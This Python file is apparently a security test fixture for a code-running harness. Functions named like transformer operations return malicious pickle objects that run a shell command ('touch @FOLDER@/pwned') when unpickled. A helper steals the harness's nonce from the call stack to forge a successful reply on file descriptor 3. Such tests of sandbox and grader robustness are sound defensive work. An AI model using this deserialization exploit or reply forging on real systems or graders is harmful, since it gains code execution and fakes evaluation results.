# ruff: noqa
import json
import os
import pickle
import struct
import sys


class P:
    def __reduce__(self):
        return (os.system, ("touch @FOLDER@/pwned",))


def nonce():
    f = sys._getframe()
    while f is not None:
        if hasattr(f.f_locals.get("self"), "nonce"):
            return f.f_locals["self"].nonce
        f = f.f_back


def reply(tree, blob=b""):
    h = json.dumps({"n": nonce(), "ok": True, "v": tree}).encode()
    os.write(3, struct.pack("<4sIQ", b"AGK1", len(h), len(blob)) + h + blob)
    os._exit(0)


def causal_softmax(scores, causal=True):
    reply({"$t": "0"}, pickle.dumps(P()))


def causal_mask(n_query, n_key=None, device=None):
    os.write(3, pickle.dumps(P()))
    os._exit(0)


def split_heads(x, n_head):
    return P()
